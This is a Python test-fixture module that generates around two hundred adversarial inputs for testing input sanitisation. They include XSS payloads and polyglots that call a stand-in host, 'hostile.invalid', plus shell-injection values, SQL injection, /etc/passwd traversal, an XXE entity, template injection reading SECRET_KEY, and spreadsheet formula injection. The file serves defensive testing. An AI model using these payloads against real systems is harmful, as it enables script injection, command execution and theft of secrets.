"""Two hundred texts of our own making that try to be more than text, by the families they are of.

Each would raise the flag `hostile` on the window, ask http://hostile.invalid/ for something, or
put an element marked `hostile` on the page, if anything took it for more than what someone wrote.
"""

from itertools import product

FLAG = "window.hostile=1"
AWAY = "//hostile.invalid/"
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onbegin", "onanimationstart")
TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "math")
BREAKS = ('"', "'", "`", "-->", "</textarea>", "</title>", "</script>", "]]>", "</style>", "</svg>")
SCRIPTS = (
    f"<script>{FLAG}</script>",
    f"<ScRiPt >{FLAG}</sCrIpT >",
    f"<script/hostile>{FLAG}</script>",
    f"<script\n>{FLAG}</script\t>",
    f"<<script>{FLAG}//<</script>",
    f"<script src={AWAY}a.js class=hostile></script>",
    f"<script type=module>import '{AWAY}m.js'</script>",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"&lt;script&gt;{FLAG}&lt;/script&gt;",
    f"&#60;script&#62;{FLAG}&#60;/script&#62;",
    f"+ADw-script+AD4-{FLAG}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{FLAG}\\u003c/script\\u003e",
    f"%3Cscript%3E{FLAG}%3C/script%3E",
    f"＜script＞{FLAG}＜/script＞",
)
_LINKS = tuple(
    f'<a class=hostile href="{scheme}{FLAG}">tea</a>'
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "javascript&colon;",
        "data:text/html,<script>", "vbscript:", "&#106;avascript:",
    )
)  # fmt: skip
ADDRESSES = (*_LINKS, f"javascript:{FLAG}", f"data:text/html,<script>parent.{FLAG}</script>")
PAGES = (
    f"<iframe class=hostile src={AWAY}></iframe>",
    f'<iframe class=hostile srcdoc="<script>parent.{FLAG}</script>"></iframe>',
    f"<object class=hostile data={AWAY}></object>",
    f"<embed class=hostile src={AWAY}>",
    f"<link class=hostile rel=stylesheet href={AWAY}a.css>",
    f"<base class=hostile href={AWAY}>",
    f"<meta class=hostile http-equiv=refresh content='0;url={AWAY}'>",
    f"<form class=hostile action={AWAY}><button>Go on</button></form>",
    "<style class=hostile>*{display:none}</style>",
    f"<div class=hostile style='background:url({AWAY}b)'>tea</div>",
    "<template class=hostile><b>tea</b></template>",
    "<hostile-element class=hostile>tea</hostile-element>",
    "<div id=main class=hostile><input name=csrfmiddlewaretoken></div>",
    f"<svg class=hostile><use href='{AWAY}x.svg#a'/></svg>",
    f"<svg class=hostile><animate attributeName=href values='javascript:{FLAG}'/></svg>",
    f"<svg class=hostile><foreignObject><body onload={FLAG}></foreignObject></svg>",
    f"<math class=hostile><maction xlink:href='javascript:{FLAG}'>x</maction></math>",
    f"<math class=hostile><mtext><style><img src onerror={FLAG}></style></mtext></math>",
    f"<noscript><p title='</noscript><img class=hostile src=x onerror={FLAG}>'>",
    f"<!--><img class=hostile src=x onerror={FLAG}>-->",
)
LANGUAGES = (
    "{{ settings.SECRET_KEY }}", "{% load static %}{% debug %}", "{{ 7|add:7 }}", "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('window.hostile=1')()}}", "<%= 7*7 %>", "{# hidden #}", "%(name)s",
    "{name} {0} {} {{}}", "%s %d %n %%", "$(touch /tmp/hostile)", "`touch /tmp/hostile`",
    "; touch /tmp/hostile", "| touch /tmp/hostile", "' or '1'='1", "'; drop table kith_record;--",
    "\\'; select 1;--", "../../../../etc/passwd", "..\\..\\secret", "file:///etc/passwd",
    "#set page(fill: red)", '#read("/etc/passwd")', "#panic(1)", '#image("/etc/passwd")',
    "#let x = 1; #x", "= Heading in Typst", "$ x^2 $", "*bold* _slanted_ `code`", "<label> @label",
    "\\#escaped \\\\ \\", "// a remark /* and one more", "] [ ) ( } {", "#[hostile]", "#(1/0)",
    "![x](javascript:window.hostile=1)", "[tea](http://hostile.invalid/)",
    "<http://hostile.invalid>",
    "# Heading", "> quote", "- list", "1. list", "| a | b |", "```\ncode\n```", "~~struck~~", "---",
    "&amp;&lt;&gt;&quot;&#39;", "&nbsp;&zwj;&bogus;", "<![CDATA[<img class=hostile>]]>",
    "<?php x ?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "<w:p><w:r>tea</w:r></w:p>",
    "=1+1", "+1+1", "-1+1", "@sum(1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", '=HYPERLINK("x")',
    '","=1+1","', ";=1+1;", "WEBVTT\n\n00:00.000 --> 00:01.000\ntea", "__proto__", "constructor",
    "toString", "null", "undefined", "NaN", "true", "[object Object]", '{"id": "x"}', "[]", "0",
)  # fmt: skip
SIGNS = (
    "\u202etxt.tea\u202c", "\u2066tea\u2069\u200f", "\u200f\u200f\u200f", "a\u0301" * 40,
    "Z" + "\u0300\u0327\u0334" * 30, "\ufeffbom", "zero\u200bwidth\u200d\u200c",
    "\u00ad" * 30 + "soft", "\u2028line\u2029part", "\x0b\x0c\x1f\x7f", "\ufffe\uffff",
    "\ufdfa" * 20, "\U000122ab" * 10, "🏳️‍🌈👩‍👩‍👧‍👦🇸🇪" * 6, "ᐃ ሀ ა ꜟ \U0010ffff",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627", "茶を一杯", "İıſK", "ǅ ß ẞ ﬁ", "\t \n \r \u3000 \u00a0x", " ",
    "'" * 60, '"' * 60, "<" * 60, "&" * 60, "\\" * 60,
)  # fmt: skip
LONG = ("w" * 5000, "<b class=hostile>" * 300, "tea " * 1200, "🏔" * 1000)
POLYGLOTS = tuple(
    f"{start}><svg/class=hostile onload={FLAG}//{end}"
    for start, end in product(
        ("javascript:/*--></title></style></textarea>", "'\"`", "{{7*7}}]]>", "=1+1\";'"),
        ("", "\\x3csVg/", "<!--"),
    )
)
TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *SCRIPTS,
            *(f"<{tag} class=hostile {event}={FLAG}>" for tag, event in product(TAGS, EVENTS)),
            *(f"{end}><img class=hostile src=x onerror={FLAG}>" for end in BREAKS),
            *ADDRESSES, *PAGES, *LANGUAGES, *SIGNS, *POLYGLOTS, *LONG,
        ]
    )
)  # fmt: skip
